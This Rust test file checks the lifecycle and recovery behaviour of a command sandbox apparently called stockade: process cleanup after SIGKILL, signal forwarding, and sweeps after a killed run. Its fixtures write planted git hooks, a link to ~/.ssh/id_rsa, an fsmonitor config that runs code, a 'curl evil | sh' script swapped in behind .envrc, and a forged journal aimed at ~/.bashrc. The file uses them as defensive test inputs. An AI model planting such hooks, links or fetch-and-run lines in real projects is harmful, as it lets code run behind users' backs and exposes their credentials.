//! Lifecycle: nothing the sandbox started outlives its supervisor. Killing `stockade` with
//! SIGKILL (no chance to clean up) must end every process inside, including ones that
//! `setsid`, double-fork and ignore SIGTERM, within a second, and leave no cgroup of the run
//! (its reaper removes them); the control shows the same tree under a plain shell keeps
//! running when its parent is killed.

// Test helpers may panic: a failed spawn is a failed test.
#![allow(clippy::expect_used)]

use std::process::{Child, Command, Stdio};
use std::time::Duration;

use attacks::{kill_all, processes_with, stockade_bin, wait_until, Fixture};

fn spawn(cmd: Command, fx: &Fixture) -> Child {
    spawn_with(cmd, fx, &[])
}

/// cgroup directories of the run of supervisor `pid` (named `stockade-PID-...`), at most four
/// levels below /sys/fs/cgroup.
fn run_groups(pid: u32) -> Vec<std::path::PathBuf> {
    fn walk(dir: &std::path::Path, prefix: &str, depth: usize, out: &mut Vec<std::path::PathBuf>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries.flatten() {
            if !e.file_type().is_ok_and(|t| t.is_dir()) {
                continue;
            }
            if e.file_name().to_string_lossy().starts_with(prefix) {
                out.push(e.path());
            } else if depth > 0 {
                walk(&e.path(), prefix, depth - 1, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(
        std::path::Path::new("/sys/fs/cgroup"),
        &format!("stockade-{pid}-"),
        4,
        &mut out,
    );
    out
}

/// `stockade run --shell script` in the background, once `count` processes carrying `tag` are
/// up.
fn start_run(fx: &Fixture, script: &str, tag: &str, count: usize) -> Child {
    let mut cmd = Command::new(stockade_bin());
    cmd.args(["run", "--workspace"])
        .arg(&fx.ws)
        .args(["--shell", script]);
    started(
        spawn(cmd, fx),
        tag,
        || processes_with(tag).len() >= count,
        Duration::from_secs(15),
    )
}

/// `stockade run --backend BACKEND --shell script` in the background, with `vars` in its
/// environment, once `ready` holds (within 30 seconds).
fn start_run_on(
    fx: &Fixture,
    backend: &str,
    script: &str,
    tag: &str,
    vars: &[(&str, &std::path::Path)],
    ready: impl Fn() -> bool,
) -> Child {
    let mut cmd = Command::new(stockade_bin());
    cmd.arg("run");
    if backend == attacks::backend() {
        cmd.args(attacks::backend_args());
    } else {
        cmd.args(["--backend", backend]);
    }
    cmd.arg("--workspace").arg(&fx.ws).args(["--shell", script]);
    started(
        spawn_with(cmd, fx, vars),
        tag,
        ready,
        Duration::from_secs(30),
    )
}

/// `child` once `ready` holds within `within`; if it never does, the run (and every process
/// carrying `tag`) is ended and the test fails.
fn started(mut child: Child, tag: &str, ready: impl Fn() -> bool, within: Duration) -> Child {
    if !wait_until(ready, within) {
        let _ = child.kill();
        let _ = child.wait();
        kill_all(tag);
        panic!("the sandboxed processes never started");
    }
    child
}

/// SIGKILL to the supervisor `child`: every process carrying `tag` must end within five
/// seconds.
fn kill_supervisor(mut child: Child, tag: &str) {
    child.kill().expect("SIGKILL stockade");
    let _ = child.wait();
    let gone = wait_until(|| processes_with(tag).is_empty(), Duration::from_secs(5));
    kill_all(tag);
    assert!(gone, "the sandbox outlived its supervisor");
}

#[test]
fn killing_the_supervisor_ends_every_process_in_the_sandbox() {
    let fx = Fixture::new();
    let tag = fx.marker("lifecycle");
    // A daemon that left the session and ignores SIGTERM, plus a foreground child.
    let script = format!(
        "(trap '' TERM HUP; setsid sh -c 'trap \"\" TERM HUP; while :; do sleep 1; done; : {tag}' &); sh -c 'while :; do sleep 1; done; : {tag}'"
    );

    let mut child = start_run(&fx, &script, &tag, 3);
    // The run's cgroup (root here: cgroup v1 groups for memory and pids), made after the
    // clone: three processes carrying the tag can be the supervisor, its clone and its
    // reaper before it exists (CI, gVisor's root pass on a loaded machine).
    if attacks::is_root() {
        assert!(
            wait_until(
                || !run_groups(child.id()).is_empty(),
                Duration::from_secs(15),
            ),
            "no cgroup of the run found while it ran"
        );
    }
    child.kill().expect("SIGKILL stockade");
    let _ = child.wait();
    let gone = wait_until(
        || processes_with(&tag).is_empty() && run_groups(child.id()).is_empty(),
        Duration::from_secs(1),
    );
    let left = processes_with(&tag);
    let left_groups = run_groups(child.id());
    kill_all(&tag);
    assert!(
        gone,
        "within a second of SIGKILL of the supervisor, left: processes {left:?}, cgroups {left_groups:?}"
    );

    // Control: the same tree under a plain shell survives the shell's SIGKILL.
    let mut cmd = Command::new("/bin/sh");
    cmd.arg("-c").arg(&script);
    let mut control = spawn(cmd, &fx);
    let started = wait_until(|| processes_with(&tag).len() >= 3, Duration::from_secs(10));
    assert!(
        started,
        "control never started: {:?} {:?}",
        processes_with(&tag),
        control.try_wait()
    );
    control.kill().expect("SIGKILL sh");
    let _ = control.wait();
    std::thread::sleep(Duration::from_millis(300));
    let survivors = processes_with(&tag);
    kill_all(&tag);
    assert!(
        !survivors.is_empty(),
        "control: orphans should survive without stockade"
    );
}

/// A kill of the caller's whole process group (a shell's job control, `timeout`,
/// `kill -- -PGID`) takes the supervisor with SIGKILL: the cgroup reaper is in a group of its
/// own, so it survives and removes the run's groups, and the sandbox ends with the supervisor.
/// Control: a plain process put in the same group dies with the same kill.
#[test]
fn killing_the_callers_process_group_leaves_no_cgroup() {
    use std::os::unix::process::CommandExt;
    let fx = Fixture::new();
    let tag = fx.marker("pgkill");
    let script = format!("sh -c 'while :; do sleep 1; done; : {tag}'");
    let mut cmd = Command::new(stockade_bin());
    cmd.args(["run", "--workspace"])
        .arg(&fx.ws)
        .args(["--shell", &script])
        .process_group(0);
    let child = spawn(cmd, &fx);
    let pid = child.id();
    let mut child = started(
        child,
        &tag,
        // The supervisor, its init and the shell inside (and the reaper where there are
        // groups) carry the tag.
        || processes_with(&tag).len() >= 3 && (!attacks::is_root() || !run_groups(pid).is_empty()),
        Duration::from_secs(15),
    );
    let pgid = child.id() as i32;
    let groups = run_groups(child.id());
    // The reaper (a child of the supervisor named stockade-reaper, only where the run has
    // groups) is outside the caller's group.
    let reaper = descendants(child.id()).into_iter().find(|p| {
        std::fs::read_to_string(format!("/proc/{p}/comm"))
            .is_ok_and(|c| c.trim() == "stockade-reaper")
    });
    // Control: a plain process in the same group.
    let mut bystander = Command::new("/bin/sh");
    bystander
        .arg("-c")
        .arg(format!("while :; do sleep 1; done; : {tag}-bystander"))
        .process_group(pgid);
    let mut bystander = spawn(bystander, &fx);
    if attacks::is_root() {
        assert!(
            !groups.is_empty(),
            "no cgroup of the run found while it ran"
        );
        let reaper = reaper.expect("no reaper for a run with groups");
        // SAFETY: getpgid only reads.
        let its = unsafe { libc::getpgid(reaper as i32) };
        assert!(
            its > 0 && its != pgid,
            "the reaper is in the caller's group {pgid} ({its})"
        );
    }
    // SAFETY: kill with a negative pid only sends a signal to that group.
    let sent = unsafe { libc::kill(-pgid, libc::SIGKILL) };
    assert_eq!(sent, 0, "kill -KILL -{pgid}");
    let _ = child.wait();
    let bystander_pid = bystander.id();
    let bystander_gone = wait_until(|| !alive(bystander_pid), Duration::from_secs(2));
    let gone = wait_until(
        || processes_with(&tag).is_empty() && run_groups(child.id()).is_empty(),
        Duration::from_secs(2),
    );
    let left = processes_with(&tag);
    let left_groups = run_groups(child.id());
    let _ = bystander.kill();
    let _ = bystander.wait();
    kill_all(&tag);
    assert!(
        bystander_gone,
        "control: the group's kill did not reach a plain process in it"
    );
    assert!(
        gone,
        "after SIGKILL of the caller's process group, left: processes {left:?}, cgroups {left_groups:?}"
    );
}

#[test]
fn background_processes_end_with_the_command() {
    let fx = Fixture::new();
    let tag = fx.marker("background");
    // Background output goes to /dev/null so the control's pipes close when the shell exits.
    let script = format!(
        "setsid sh -c 'while :; do sleep 1; done; : {tag}' >/dev/null 2>&1 & sh -c 'while :; do sleep 1; done; : {tag}' >/dev/null 2>&1 & sleep 0.2; exit 7"
    );
    let run = fx.sandbox(&[], &script).run();
    run.assert_code(7);
    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(5));
    let left = processes_with(&tag);
    kill_all(&tag);
    assert!(gone, "background processes outlived the command: {left:?}");

    // Control: on the host the same script leaves them running.
    let run = fx.host(&script).run();
    run.assert_code(7);
    std::thread::sleep(Duration::from_millis(200));
    let survivors = processes_with(&tag);
    kill_all(&tag);
    assert!(
        !survivors.is_empty(),
        "control: background processes survive a plain shell"
    );
}

/// Ctrl-C (SIGINT to stockade) is forwarded to the command first; a command that ignores it,
/// and a daemon that left the session, end with the whole sandbox after the grace period:
/// stockade exits 130 within a few seconds and nothing of the run remains. Control: the same
/// tree under a plain shell shrugs the SIGINT off.
#[test]
fn ctrl_c_is_forwarded_then_the_whole_sandbox_ends() {
    let fx = Fixture::new();
    let tag = fx.marker("interrupt");
    let seen = fx.ws.join("got-int");
    let script = format!(
        "exec 3> {seen}; trap 'echo int >&3' INT; \
         (trap '' INT TERM HUP; setsid sh -c 'trap \"\" INT TERM HUP; while :; do sleep 1; done; : {tag}' &); \
         echo ready >&3; while :; do sleep 0.1; done; : {tag}",
        seen = attacks::sh_quote(&seen)
    );
    // The shell says `ready` once its trap is set and the daemon started (counting processes
    // is not enough: stockade's own command line holds the tag too, so the shell can be
    // counted before it has read its script). It runs the trap once its foreground `sleep`
    // ends: short sleeps, so that happens well within the grace period after which the whole
    // sandbox is ended.
    // Under the backend under test; SIGINT at its default action in stockade, as a terminal's
    // foreground job has it (a test run in the background of a shell inherits it ignored,
    // and stockade leaves an ignored signal ignored).
    let mut cmd = Command::new(stockade_bin());
    cmd.arg("run")
        .args(attacks::backend_args())
        .arg("--workspace")
        .arg(&fx.ws)
        .args(["--shell", &script]);
    // SAFETY: signal() is async-signal-safe, and resetting SIGINT to its default action
    // touches nothing of the parent's between fork and exec.
    unsafe {
        use std::os::unix::process::CommandExt;
        cmd.pre_exec(|| {
            libc::signal(libc::SIGINT, libc::SIG_DFL);
            Ok(())
        });
    }
    // Ready once the shell says so (gVisor's processes are the Sentry's, not the host's to
    // count).
    let read_seen = || std::fs::read_to_string(&seen).unwrap_or_default();
    let mut child = started(
        spawn(cmd, &fx),
        &tag,
        || read_seen().contains("ready"),
        Duration::from_secs(30),
    );
    let sent = std::time::Instant::now();
    // SAFETY: kill with a pid and a signal number touches no memory.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    // The grace period, then the end: gVisor's `runsc kill` and `delete`, and a container
    // engine's `kill` and `rm` (each a client of its own, rootless Podman's slowest), take
    // longer than native's.
    let bound = if attacks::backend() != "native" {
        Duration::from_secs(6)
    } else {
        Duration::from_secs(3)
    };
    let mut status = None;
    while sent.elapsed() < bound + Duration::from_secs(2) {
        status = child.try_wait().ok().flatten();
        if status.is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let took = sent.elapsed();
    let ended = status.is_some();
    let gone = wait_until(|| processes_with(&tag).is_empty(), Duration::from_secs(1));
    let left = processes_with(&tag);
    kill_all(&tag);
    // Reaps it if it ended; kills and reaps it if it did not.
    let _ = child.kill();
    let _ = child.wait();
    assert!(ended, "stockade still running {took:?} after SIGINT");
    assert!(took < bound, "stockade took {took:?} to end after SIGINT");
    assert_eq!(status.and_then(|s| s.code()), Some(130), "{status:?}");
    assert!(gone, "processes outlived the interrupted run: {left:?}");
    assert!(
        wait_until(|| read_seen().contains("int"), Duration::from_secs(1)),
        "the command never saw the forwarded SIGINT"
    );

    // Control: a plain shell running the same tree ignores the SIGINT and keeps everything.
    let mut cmd = Command::new("/bin/sh");
    cmd.arg("-c").arg(&script);
    let mut control = spawn(cmd, &fx);
    let started = wait_until(|| processes_with(&tag).len() >= 2, Duration::from_secs(10));
    // SAFETY: as above.
    unsafe { libc::kill(control.id() as i32, libc::SIGINT) };
    std::thread::sleep(Duration::from_millis(1500));
    let alive = matches!(control.try_wait(), Ok(None));
    let _ = control.kill();
    let _ = control.wait();
    std::thread::sleep(Duration::from_millis(200));
    let survivors = processes_with(&tag);
    kill_all(&tag);
    assert!(started, "control never started");
    assert!(alive, "control: the shell should ignore SIGINT");
    assert!(!survivors.is_empty(), "control: the daemon should survive");
}

/// `nohup stockade run ...` survives the hangup: a SIGHUP to a stockade whose caller ignores
/// SIGHUP is not caught, so it is neither forwarded nor a reason to end the run, and the
/// command finishes (exit 0). Control: the same SIGHUP to a stockade started with default
/// dispositions is forwarded and ends the run with 129.
#[test]
fn sighup_under_nohup_does_not_end_the_run() {
    let fx = Fixture::new();
    let finished = fx.ws.join("finished");
    // Written by the command once it runs (the supervisor has caught its signals by then).
    let running = fx.ws.join("running");
    for (dispositions, want) in [
        ("--ignore-signal=HUP", Some(0)),
        ("--default-signal", Some(129)),
    ] {
        let tag = fx.marker("hangup");
        let _ = std::fs::remove_file(&finished);
        let _ = std::fs::remove_file(&running);
        let script = format!(
            "echo > {}; i=0; while [ $i -lt 10 ]; do sleep 0.2; i=$((i+1)); done; echo ok > {}; : {tag}",
            attacks::sh_quote(&running),
            attacks::sh_quote(&finished)
        );
        let mut cmd = Command::new("env");
        cmd.args([dispositions, "--"])
            .arg(stockade_bin())
            .args(["run", "--workspace"])
            .arg(&fx.ws)
            .args(["--shell", &script]);
        let mut child = spawn(cmd, &fx);
        let started = wait_until(|| running.exists(), Duration::from_secs(15));
        // SAFETY: kill with a pid and a signal number touches no memory.
        unsafe { libc::kill(child.id() as i32, libc::SIGHUP) };
        let mut status = None;
        let sent = std::time::Instant::now();
        while status.is_none() && sent.elapsed() < Duration::from_secs(10) {
            status = child.try_wait().ok().flatten();
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = child.kill();
        let _ = child.wait();
        kill_all(&tag);
        assert!(started, "the command never started ({dispositions})");
        assert_eq!(
            status.and_then(|s| s.code()),
            want,
            "{dispositions}: {status:?}"
        );
        assert_eq!(finished.exists(), want == Some(0), "{dispositions}");
    }
}

/// A run whose supervisor is killed (SIGKILL: no sweep after it) leaves its journal, and the
/// next run on the workspace first completes that sweep (issue 30, item 8): a hook planted in
/// a new repository (gVisor: no creation guard refuses it during the run) and a link into a
/// masked path (both backends: only the sweep takes links out) are quarantined and reported,
/// on stderr and in the audit log (`sweep_recovered`). Control: after the kill, before the
/// next run, both are still in the workspace, so the kill really skipped the sweep.
#[test]
fn a_killed_supervisors_sweep_is_completed_by_the_next_run() {
    let fx = Fixture::new();
    let tag = fx.marker("journal");
    let script = format!(
        "git init -q r; printf '#!/bin/sh\\ntouch /tmp/pwn\\n' > r/.git/hooks/pre-commit; chmod +x r/.git/hooks/pre-commit; ln -s \"$HOME/.ssh/id_rsa\" key-link; sh -c 'while :; do sleep 1; done; : {tag}'"
    );
    let link = fx.ws.join("key-link");
    let mut child = start_run_on(&fx, attacks::backend(), &script, &tag, &[], || {
        !processes_with(&tag).is_empty() && link.symlink_metadata().is_ok()
    });
    // The sandbox's processes on the host (the native init and what it started; runsc and
    // its sandbox and gofer under gVisor): all must end with the supervisor.
    let sandbox = descendants(child.id());
    assert!(!sandbox.is_empty(), "no process under the supervisor");
    child.kill().expect("SIGKILL stockade");
    let _ = child.wait();
    let gone = wait_until(
        || processes_with(&tag).is_empty() && sandbox.iter().all(|p| !alive(*p)),
        Duration::from_secs(5),
    );
    let left = processes_with(&tag);
    let left_pids: Vec<u32> = sandbox.iter().copied().filter(|p| alive(*p)).collect();
    kill_all(&tag);
    assert!(
        gone,
        "the sandbox outlived its supervisor: {left:?}, pids {left_pids:?}"
    );
    // Control: the kill skipped the sweep; what the run left is still there.
    assert!(
        link.symlink_metadata().is_ok(),
        "the link went without a sweep"
    );
    let hook = fx.ws.join("r/.git/hooks/pre-commit");
    if !attacks::creation_guarded() {
        assert!(hook.exists(), "the hook went without a sweep");
    }
    // The next run on the workspace.
    let audit = fx.out_file("recover-audit.jsonl");
    let next = fx
        .stockade(["run", "--workspace"])
        .arg(&fx.ws)
        .arg("--audit")
        .arg(&audit)
        .args(["--", "true"])
        .run();
    next.assert_success();
    assert!(
        link.symlink_metadata().is_err(),
        "the link stayed\n{}",
        next.describe()
    );
    assert!(
        attacks::quarantined_files(&fx.ws)
            .iter()
            .any(|q| q.ends_with("key-link")),
        "the link is not in the quarantine"
    );
    assert!(
        attacks::live_hooks(&fx.ws).is_empty(),
        "a live hook stayed: {:?}\n{}",
        attacks::live_hooks(&fx.ws),
        next.describe()
    );
    next.assert_stderr_contains("ended without its sweep");
    next.assert_stderr_contains("key-link");
    let events = attacks::read_jsonl(&audit);
    let recovered: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["event"] == "sweep_recovered")
        .collect();
    assert_eq!(recovered.len(), 1, "{events:?}");
    assert_eq!(recovered[0]["code"], "SWEEP_RECOVERED");
    assert!(recovered[0]["violations"].as_u64().unwrap_or(0) >= 1);
    // Its journal is gone: the run after that recovers nothing.
    let again = fx.sandbox_argv(&[], &["true"]).run();
    again.assert_success();
    again.assert_lacks("ended without its sweep");
}

/// Under gVisor a run may rename a directory holding a pinned git dir (`mv sub subold`, a
/// nested repository: the pinned `.git` itself cannot be renamed, `EBUSY`) and put a new
/// `sub/.git` at the old name: the sweep after the run moves the original back. A supervisor
/// killed before that leaves the swapped `.git` (its config running code) in place; the next
/// run on the workspace moves the original back from the dead run's journal (the identities
/// the plan saw). Control: after the kill, before the next run, the swap is still there.
/// Native: n/a, the creation guard refuses the new `.git` during the run.
#[test]
fn a_killed_gvisor_runs_swapped_git_dir_is_restored_by_the_next_run() {
    if attacks::backend() != "gvisor" {
        println!("n/a under native: the creation guard refuses the new .git during the run, so there is nothing to restore");
        return;
    }
    let fx = Fixture::new();
    fx.git_host(&["clone", "-q", ".", "sub"]).assert_success();
    let tag = fx.marker("swap");
    let script = format!(
        "mv sub subold && mkdir -p sub/.git/hooks && printf '[core]\\n\\tfsmonitor = echo owned\\n' > sub/.git/config && sh -c 'while :; do sleep 1; done; : {tag}'"
    );
    let config = || attacks::read_text(&fx.ws.join("sub/.git/config")).unwrap_or_default();
    // The script's own shell carries the tag from the start: wait for the swap itself.
    let child = start_run_on(&fx, "gvisor", &script, &tag, &[], || {
        config().contains("fsmonitor") && !processes_with(&tag).is_empty()
    });
    kill_supervisor(child, &tag);
    // Control: the swap is in place.
    assert!(config().contains("fsmonitor"), "no swap: {}", config());
    assert!(fx.ws.join("subold/.git").exists());
    let next = fx.sandbox_argv(&[], &["true"]).run();
    next.assert_success();
    assert!(
        !config().contains("fsmonitor"),
        "the planted config is live: {}",
        config()
    );
    assert!(
        !fx.ws.join("subold/.git").exists(),
        "the original was not moved back"
    );
    fx.git_host(&["-C", "sub", "log", "--oneline"])
        .assert_success()
        .assert_stdout_contains("initial");
    next.assert_stderr_contains("protected path replaced");
}

/// A review run whose change set cannot be read and sealed after the command ended (here:
/// directories nested 260 deep, deeper than a change set may be) still records the command's exit code
/// and its end, with the error beside them: the report (`exit_code`, `review_error`), the
/// audit log (`review_failed`, then `run_end` with the exit code), `--json`'s error line, and
/// the change directory stays listed by `stockade runs`, with the reason; stockade exits 125. (Before: the error
/// replaced the run's result, and its exit code was lost.) Control: the same run without the
/// huge file is sealed, with no error.
#[test]
fn a_review_run_whose_finish_fails_keeps_its_exit_code() {
    let fx = Fixture::new();
    let report = fx.out_file("failed-review.json");
    let audit = fx.out_file("failed-review.jsonl");
    let (rep, aud) = (report.display().to_string(), audit.display().to_string());
    let run = fx
        .sandbox(
            &["--review", "--json", "--report", &rep, "--audit", &aud],
            "echo kept > kept.txt; mkdir -p $(printf 'n/%.0s' $(seq 260)); exit 4",
        )
        .run();
    run.assert_code(125);
    run.assert_stderr_contains("\"exit_code\":4");
    let record = attacks::read_json(&report);
    assert_eq!(record["exit_code"], 4, "{record}");
    assert!(record["review"].is_null(), "{record}");
    assert_eq!(
        record["review_error"]["code"], "E_CHANGES_TAMPERED",
        "{record}"
    );
    let events = attacks::read_jsonl(&audit);
    let names: Vec<&str> = events.iter().filter_map(|e| e["event"].as_str()).collect();
    let failed = names.iter().position(|n| *n == "review_failed");
    let end = names.iter().position(|n| *n == "run_end");
    assert!(
        failed.is_some() && end.is_some() && failed < end,
        "{names:?}"
    );
    assert_eq!(events[end.unwrap_or(0)]["exit_code"], 4);
    let runs = fx.stockade(["runs"]).run();
    runs.assert_success();
    let id = record["run_id"].as_str().unwrap_or_default();
    assert!(
        runs.stdout.contains(id) && runs.stdout.contains("not finished: refusing"),
        "{}",
        runs.describe()
    );
    // Control: without the deep tree the change set is sealed and nothing failed.
    let report2 = fx.out_file("sealed-review.json");
    let rep2 = report2.display().to_string();
    let run = fx
        .sandbox(
            &["--review", "--report", &rep2],
            "echo kept > kept2.txt; exit 4",
        )
        .run();
    run.assert_code(4);
    let record = attacks::read_json(&report2);
    assert!(record["review_error"].is_null(), "{record}");
    assert_eq!(record["review"]["added"], 1, "{record}");
}

/// A directory (and a file) the command made in its view and then made unreadable to its
/// owner (`chmod 000`) no longer makes the finish of an unprivileged caller's review run fail
/// (plain and under `--disk`): the change set is read, sealed and applied, the entries with
/// the modes the command set (a directory gets its bits after what it holds is written).
/// Control: such a directory really is closed to the caller (listing it fails on the host).
/// As root the supervisor reads it anyway (`CAP_DAC_OVERRIDE`); the test checks the same.
#[test]
fn a_review_run_that_leaves_a_mode_000_directory_finishes() {
    // Plain, and under a disk bound (the upper is read on its tmpfs, then imported).
    for opts in [&[][..], &["--disk", "100M"][..]] {
        if opts.contains(&"--disk") && attacks::not_applicable(&attacks::na::VIEW_DISK) {
            continue;
        }
        let fx = Fixture::new();
        let (run, id) = attacks::review::review(
            &fx,
            opts,
            "mkdir d && echo x > d/f && chmod 000 d && echo y > g && chmod 000 g; exit 3",
        );
        run.assert_code(3);
        let Some(id) = id else {
            panic!("no change set ({opts:?}): {}", run.describe());
        };
        let paths: Vec<String> = attacks::review::entries(&fx, &id)
            .iter()
            .filter_map(|c| c["path"].as_str().map(str::to_owned))
            .collect();
        for want in ["d", "d/f", "g"] {
            assert!(paths.iter().any(|p| p == want), "{want} missing: {paths:?}");
        }
        fx.stockade(["apply", &id, "--accept-flagged"])
            .run()
            .assert_success();
        for p in ["d", "g"] {
            use std::os::unix::fs::PermissionsExt;
            let m = std::fs::symlink_metadata(fx.ws.join(p)).expect("applied");
            assert_eq!(m.permissions().mode() & 0o7777, 0, "{p}");
            attacks::chmod(&fx.ws.join(p), 0o755);
        }
        let text = |p: &str| attacks::read_text(&fx.ws.join(p));
        assert_eq!(text("d/f").as_deref(), Some("x\n"));
        assert_eq!(text("g").as_deref(), Some("y\n"));
    }
    let fx = Fixture::new();
    // Control: mode 000 closes a directory to its unprivileged owner.
    if !attacks::is_root() {
        std::fs::create_dir(fx.ws.join("closed")).expect("mkdir");
        attacks::chmod(&fx.ws.join("closed"), 0o000);
        assert!(std::fs::read_dir(fx.ws.join("closed")).is_err());
        attacks::chmod(&fx.ws.join("closed"), 0o755);
    }
}

/// A journal in a directory a run can write (`XDG_STATE_HOME` inside the workspace) is not
/// acted on: a command that could rename the journal directory away (under gVisor before its
/// ancestors were pinned there too) could plant a journal of its own, whose sweep could move
/// a file of its choosing onto a protected name. The next run is refused, naming the journal,
/// and nothing is moved. Control: `a_killed_supervisors_sweep_is_completed_by_the_next_run`,
/// the same kill with the state directory outside the workspace, is acted on.
#[test]
fn a_journal_where_a_run_can_write_is_not_acted_on() {
    let fx = Fixture::new();
    let tag = fx.marker("exposed");
    let state = fx.ws.join("state");
    let script =
        format!("ln -s \"$HOME/.ssh/id_rsa\" key-link; sh -c 'while :; do sleep 1; done; : {tag}'");
    let link = fx.ws.join("key-link");
    let child = start_run_on(
        &fx,
        attacks::backend(),
        &script,
        &tag,
        &[("XDG_STATE_HOME", &state)],
        || !processes_with(&tag).is_empty() && link.symlink_metadata().is_ok(),
    );
    kill_supervisor(child, &tag);
    let next = fx
        .stockade(["run", "--workspace"])
        .arg(&fx.ws)
        .env("XDG_STATE_HOME", &state)
        .args(["--", "true"])
        .run();
    next.assert_code(125);
    next.assert_stderr_contains("which a run can write");
    next.assert_stderr_contains("stockade/journal/");
    assert!(
        link.symlink_metadata().is_ok(),
        "the journal was acted on\n{}",
        next.describe()
    );
}

/// [`spawn`] with more variables.
fn spawn_with(mut cmd: Command, fx: &Fixture, vars: &[(&str, &std::path::Path)]) -> Child {
    fx.give_out();
    cmd.env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", &fx.home)
        .envs(attacks::engine_store_env())
        .current_dir(&fx.ws)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    for (k, v) in vars {
        cmd.env(k, v);
    }
    cmd.spawn().expect("spawn")
}

/// Every process below `pid` (through `/proc/PID/task/TID/children`).
fn descendants(pid: u32) -> Vec<u32> {
    let mut out = Vec::new();
    let mut todo = vec![pid];
    while let Some(p) = todo.pop() {
        let Ok(tasks) = std::fs::read_dir(format!("/proc/{p}/task")) else {
            continue;
        };
        for t in tasks.flatten() {
            let children = std::fs::read_to_string(t.path().join("children")).unwrap_or_default();
            for c in children
                .split_whitespace()
                .filter_map(|c| c.parse::<u32>().ok())
            {
                out.push(c);
                todo.push(c);
            }
        }
    }
    out
}

/// Whether `pid` is a live process (not gone, not a zombie waiting to be reaped).
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| s.rsplit_once(") ").map(|(_, rest)| !rest.starts_with('Z')))
        .unwrap_or(false)
}

/// Under gVisor a run may replace a protected symbolic link by another (`rm .envrc;
/// ln -s evil.sh .envrc`): the sweep after the run puts the original back. A supervisor
/// killed before that leaves the swap; the next run puts it back from the dead run's journal
/// (the targets the plan saw: a plan made again would take the swapped link for the
/// original). Control: after the kill, before the next run, the swap is still there. Native:
/// n/a, the new link is refused as it is made.
#[test]
fn a_killed_gvisor_runs_swapped_link_is_restored_by_the_next_run() {
    if attacks::backend() != "gvisor" {
        println!("n/a under native: the creation guard refuses the new link during the run, so there is nothing to restore");
        return;
    }
    let fx = Fixture::new();
    let tag = fx.marker("link");
    attacks::write_file(&fx.ws.join("envrc.shared"), "export A=1\n", 0o644);
    std::os::unix::fs::symlink("envrc.shared", fx.ws.join(".envrc")).expect("link");
    let script = format!(
        "printf 'curl evil | sh\\n' > evil.sh && rm .envrc && ln -s evil.sh .envrc && sh -c 'while :; do sleep 1; done; : {tag}'"
    );
    let target = || std::fs::read_link(fx.ws.join(".envrc")).unwrap_or_default();
    let child = start_run_on(&fx, "gvisor", &script, &tag, &[], || {
        target() == std::path::Path::new("evil.sh") && !processes_with(&tag).is_empty()
    });
    kill_supervisor(child, &tag);
    // Control: the swap is in place.
    assert_eq!(target(), std::path::Path::new("evil.sh"), "no swap");
    let next = fx.sandbox_argv(&[], &["true"]).run();
    next.assert_success();
    assert_eq!(
        target(),
        std::path::Path::new("envrc.shared"),
        "the swapped link stayed\n{}",
        next.describe()
    );
    next.assert_stderr_contains("protected path replaced");
}

/// A journal names the roots its sweep acts in, and under gVisor a command whose writable
/// roots hold the state directory may have written it (rename the state directory away, plant
/// a journal, get the supervisor killed: found by a red team). The run that finds it acts only
/// within its own writable roots, and names the others. Here a genuine journal of a killed run
/// is rewritten as such a command would: its roots hold the home, and its protected links say
/// `~/.bashrc` led to a payload (recovery made that link: host shells then sourced the
/// payload). The next run on the workspace leaves `~/.bashrc` alone and names the home as
/// not swept. Control: the same forged link inside the workspace is acted on (the journal is
/// honoured where the run may write, as a command there could have written anyway).
#[test]
fn a_journal_acts_only_where_the_run_that_finds_it_may_write() {
    use std::os::unix::ffi::OsStrExt;
    use std::path::Path;
    let fx = Fixture::new();
    let tag = fx.marker("forged");
    let bashrc = fx.home.join(".bashrc");
    let envrc = fx.ws.join(".envrc");
    attacks::write_file(&fx.home.join("dotfiles/bashrc"), "export A=1\n", 0o644);
    attacks::write_file(&fx.home.join("ev/payload.sh"), "touch /tmp/pwned\n", 0o755);
    let _ = std::fs::remove_file(&bashrc);
    std::os::unix::fs::symlink("dotfiles/bashrc", &bashrc).expect("link");
    attacks::write_file(&fx.ws.join("envrc.shared"), "export A=1\n", 0o644);
    std::os::unix::fs::symlink("envrc.shared", &envrc).expect("link");
    let script = format!("touch started; sh -c 'while :; do sleep 1; done; : {tag}'");
    let dir = fx.home.join(".local/state/stockade/journal");
    let journals = || -> Vec<std::path::PathBuf> {
        std::fs::read_dir(&dir)
            .map(|d| {
                d.filter_map(Result::ok)
                    .map(|e| e.path())
                    .filter(|p| p.extension().is_some_and(|x| x == "json"))
                    .collect()
            })
            .unwrap_or_default()
    };
    let child = start_run_on(&fx, attacks::backend(), &script, &tag, &[], || {
        fx.ws.join("started").exists() && !journals().is_empty()
    });
    kill_supervisor(child, &tag);
    let journals = journals();
    assert_eq!(journals.len(), 1, "{journals:?}");
    let path = &journals[0];
    let mut j: serde_json::Value =
        serde_json::from_slice(&std::fs::read(path).expect("read the journal")).expect("json");
    let os = |p: &Path| serde_json::json!({ "Unix": p.as_os_str().as_bytes() });
    j["roots"].as_array_mut().expect("roots").push(os(&fx.home));
    j["held_pinned"] = false.into();
    for (link, target) in [(&bashrc, "ev/payload.sh"), (&envrc, "evil.sh")] {
        (j["existing"].as_array_mut().expect("existing"))
            .push(serde_json::json!([os(link), "symlink"]));
        (j["links"].as_array_mut().expect("links")).push(serde_json::json!([
            os(link),
            os(Path::new(target)),
            null
        ]));
    }
    std::fs::write(path, serde_json::to_vec(&j).expect("json")).expect("write the journal");
    let next = fx.sandbox_argv(&[], &["true"]).run();
    assert_eq!(
        std::fs::read_link(&bashrc).ok().as_deref(),
        Some(Path::new("dotfiles/bashrc")),
        "recovery acted outside the run's writable roots\n{}",
        next.describe()
    );
    next.assert_stderr_contains(&format!("not in: {}", fx.home.display()));
    // Control: within the workspace the forged journal is what the sweep follows.
    assert_eq!(
        std::fs::read_link(&envrc).ok().as_deref(),
        Some(Path::new("evil.sh")),
        "the journal was not acted on within the workspace\n{}",
        next.describe()
    );
}

